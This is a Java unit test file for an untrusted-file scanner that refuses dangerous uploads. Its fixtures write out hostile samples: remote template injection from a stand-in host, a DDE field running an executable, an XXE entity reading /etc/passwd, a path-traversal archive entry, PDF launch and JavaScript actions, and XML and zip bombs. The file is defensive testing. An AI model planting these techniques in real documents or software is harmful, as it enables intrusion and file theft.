package org.mandate.app.files;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;
import static org.mandate.app.files.Sent.action;
import static org.mandate.app.files.Sent.docxChanged;
import static org.mandate.app.files.Sent.docxWith;
import static org.mandate.app.files.Sent.joined;
import static org.mandate.app.files.Sent.odt;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.mandate.app.files.Looked.Note;
import org.mandate.app.files.Looked.Refused;
import org.mandate.app.files.Looked.Sound;

/** What a file is, and what is wrong with it, is found in its bytes by a process of its own. */
class UntrustedFilesTest {
  private static final Looking LOOKING = new Looking();
  private static final String RELS = "word/_rels/document.xml.rels";
  private static final String LAST_REL = "</Relationships>";

  @TempDir Path folder;

  private Looked look(byte[] bytes) {
    try {
      return LOOKING.look(Files.write(folder.resolve("sent"), bytes));
    } catch (IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }

  static Stream<Arguments> sound() {
    return Stream.of(
        arguments(FileType.PDF, 2, "First page", Sent.pdf("First page", "Second page")),
        arguments(FileType.DOCX, 0, "Caf\u00e9 costs", Sent.docx("Caf\u00e9 costs", "more")),
        arguments(FileType.ODT, 0, "Open text", odt(Map.of(), "<text:p>Open text</text:p>")),
        arguments(FileType.PNG, 1, "", Sent.picture("png", 40, 30)),
        arguments(FileType.JPEG, 1, "", Sent.picture("jpg", 40, 30)),
        arguments(FileType.TEXT, 0, "Plain w\u00f6rds", "Plain w\u00f6rds\n".getBytes(UTF_8)));
  }

  @ParameterizedTest
  @MethodSource("sound")
  void aSoundFileIsKnownByItsContent(FileType type, int pages, String words, byte[] bytes) {
    assertThat(look(bytes))
        .isInstanceOfSatisfying(
            Sound.class,
            found -> {
              assertThat(found.type()).isEqualTo(type);
              assertThat(found.pages()).isEqualTo(pages);
              assertThat(found.text()).contains(words);
            });
  }

  static Stream<Arguments> bad() {
    return Stream.concat(badPackages(), badOthers());
  }

  private static Arguments bad(Danger danger, String what, byte[] bytes) {
    return arguments(danger, what, bytes);
  }

  private static Stream<Arguments> badPackages() {
    String w = "word/document.xml";
    return Stream.of(
        bad(Danger.MACROS, "vbaProject.bin", Sent.macroDocx()),
        bad(
            Danger.MACROS,
            "a DOCM by its content type",
            docxChanged(
                "[Content_Types].xml",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                "application/vnd.ms-word.document.macroEnabled.main+xml")),
        bad(Danger.EMBEDDED, "an OLE object", docxWith("word/embeddings/oleObject1.bin", "x")),
        bad(
            Danger.FETCHES,
            "a template from elsewhere",
            docxChanged(
                RELS,
                LAST_REL,
                "<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
                    + " Target=\"http://bad.example/t.dotm\" TargetMode=\"External\"/>"
                    + LAST_REL)),
        bad(
            Danger.FETCHES,
            "DDE in one field",
            docxChanged(
                w,
                "A paper",
                "</w:t></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>"
                    + "<w:r><w:instrText>AUTO c:\\\\x.exe </w:instrText></w:r><w:r><w:t>")),
        bad(Danger.XML_BOMB, "entities that swell", Sent.xmlBombDocx()),
        bad(
            Danger.XML_BOMB,
            "an entity from a file, in the relations",
            docxWith(RELS, "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>")),
        bad(Danger.ZIP_BOMB, "90 MB of blanks", Sent.zipBombDocx()),
        bad(Danger.DAMAGED, "half a DOCX", java.util.Arrays.copyOf(Sent.docx("a"), 900)),
        bad(Danger.DAMAGED, "a part above its folder", docxWith("../../etc/passwd", "x")),
        bad(
            Danger.OTHER_OFFICE,
            "a spreadsheet",
            docxChanged(
                "[Content_Types].xml",
                "wordprocessingml.document.main",
                "spreadsheetml.sheet.main")),
        bad(Danger.UNKNOWN, "any ZIP", Sent.zip(Map.of("a.txt", new byte[] {65}))),
        bad(
            Danger.MACROS,
            "Basic in an ODT",
            odt(Map.of("Basic/Standard/Module1.xml", "<a/>"), "")),
        bad(
            Danger.MACROS,
            "a listener in an ODT",
            odt(Map.of(), "<script:event-listener script:language=\"ooo:script\"/>")),
        bad(
            Danger.FETCHES,
            "a picture from elsewhere",
            odt(Map.of(), "<draw:image xlink:href=\"http://bad.example/x.png\"/>")),
        bad(
            Danger.ENCRYPTED,
            "a locked ODT",
            odt(Map.of("META-INF/manifest.xml", "<m><encryption-data/></m>"), "")));
  }

  private static Stream<Arguments> badOthers() {
    return Stream.of(
        bad(Danger.SCRIPTS, "a script at the opening", Sent.pdfWithScript("app.alert(1)")),
        bad(
            Danger.SCRIPTS,
            "a program to start",
            Sent.pdfWithLink(action("Launch", "F", "calc.exe"))),
        bad(
            Danger.SCRIPTS,
            "a form to send",
            Sent.pdfWithLink(action("SubmitForm", "F", "http://x"))),
        bad(
            Danger.SCRIPTS,
            "a script that nothing points at",
            Sent.rawPdf("<</S/JavaScript/JS(app.alert\\(1\\))>>")),
        bad(Danger.ATTACHMENTS, "an attached program", Sent.pdfWithAttachment("MZ")),
        bad(Danger.ENCRYPTED, "a PDF with a password", Sent.lockedPdf("secret")),
        bad(Danger.ENCRYPTED, "a PDF that forbids copying", Sent.lockedPdf("")),
        bad(Danger.DAMAGED, "half a PDF", "%PDF-1.7\n1 0 obj <<".getBytes(UTF_8)),
        bad(Danger.TWO_TYPES, "a PDF that is a DOCX", joined(Sent.pdf("a"), Sent.docx("b"))),
        bad(
            Danger.TWO_TYPES,
            "a picture that is a ZIP",
            joined(Sent.picture("png", 9, 9), Sent.docx("b"))),
        bad(
            Danger.TWO_TYPES,
            "a JPEG that is a ZIP",
            joined(Sent.picture("jpg", 9, 9), Sent.docx("b"))),
        bad(
            Danger.TWO_TYPES,
            "a picture with a tail",
            joined(Sent.picture("png", 9, 9), new byte[5])),
        bad(
            Danger.TWO_TYPES,
            "text that is a PDF",
            joined("x\n".getBytes(UTF_8), "%PDF-1.4".getBytes(UTF_8))),
        bad(Danger.TOO_MANY_PIXELS, "20,000 by 20,000", Sent.pngThatClaims(20_000, 20_000)),
        bad(
            Danger.DAMAGED,
            "a picture cut short",
            java.util.Arrays.copyOf(Sent.picture("png", 99, 99), 60)),
        bad(
            Danger.OLD_WORD,
            "an old Word file",
            new byte[] {(byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, 1}),
        bad(Danger.MARKUP, "a web page", "<!DOCTYPE html><p>hello".getBytes(UTF_8)),
        bad(
            Danger.XML_BOMB,
            "XML with entities",
            "<!DOCTYPE a [<!ENTITY b 'c'>]><a/>".getBytes(UTF_8)),
        bad(
            Danger.NOT_UTF8,
            "text in an old encoding",
            new byte[] {67, 97, 102, (byte) 0xe9, 32, 65, 66}),
        bad(Danger.UNKNOWN, "a program", joined("MZ".getBytes(UTF_8), new byte[300])),
        bad(Danger.EMPTY, "nothing", new byte[0]));
  }

  @ParameterizedTest(name = "{1}: {0}")
  @MethodSource("bad")
  void aBadFileIsRefusedForWhatIsWrongWithIt(Danger danger, String what, byte[] bytes) {
    assertThat(look(bytes)).isEqualTo(new Refused(danger));
  }

  @Test
  void whatIsRefusedIsSaidWithItsMend() {
    assertThat(new Refused(Danger.MACROS).words())
        .isEqualTo(
            "The file holds macros: small programs that run where it is opened. Save it as a DOCX"
                + " without macros, or as a PDF");
  }

  @Test
  void linksAndTrackedChangesAreToldAndDoNotRefuse() {
    assertThat(look(Sent.pdfWithLink(action("URI", "URI", "https://nhs.uk"))))
        .isInstanceOfSatisfying(Sound.class, s -> assertThat(s.notes()).contains(Note.LINKS));
    assertThat(look(docxChanged("word/document.xml", "<w:r><w:t", "<w:ins/><w:r><w:t")))
        .isInstanceOfSatisfying(Sound.class, s -> assertThat(s.notes()).contains(Note.TRACKED));
  }

  @Test
  void aFontNamedLikeAnActionIsAFont() {
    byte[] bytes =
        Sent.pdf(
            pdf -> {
              COSDictionary fonts =
                  pdf.getPage(0).getResources().getCOSObject().getCOSDictionary(COSName.FONT);
              fonts.setItem(
                  COSName.getPDFName("JS"), fonts.getItem(fonts.keySet().iterator().next()));
              fonts.setItem(COSName.getPDFName("EF"), fonts.getItem(COSName.getPDFName("JS")));
            },
            "Words");

    assertThat(look(bytes)).isInstanceOf(Sound.class);
  }

  @Test
  void aLongTextIsCutAndSaysSo() {
    assertThat(look("word ".repeat(300_000).getBytes(UTF_8)))
        .isInstanceOfSatisfying(
            Sound.class,
            s -> {
              assertThat(s.text().length()).isBetween(Looking.MOST_TEXT - 2, Looking.MOST_TEXT);
              assertThat(s.notes()).contains(Note.CUT);
            });
  }

  @Test
  void whateverBytesComeNothingIsThrown() throws IOException {
    long seed = 20261127;
    Random random = new Random(seed);
    byte[][] all = {
      Sent.pdf("One", "Two"),
      Sent.docx("words"),
      Sent.picture("jpg", 30, 30),
      Sent.picture("png", 30, 30),
      odt(Map.of(), "<text:p>x</text:p>")
    };
    for (int i = 0; i < 400; i++) {
      byte[] bytes = all[random.nextInt(all.length)].clone();
      for (int n = 0; n < 1 + random.nextInt(20); n++) {
        bytes[random.nextInt(bytes.length)] = (byte) random.nextInt(256);
      }
      Path file = Files.write(folder.resolve("changed"), bytes);
      assertThat(Look.at(file)).as("seed %s, file %s", seed, i).isInstanceOf(Looked.class);
    }
  }
}
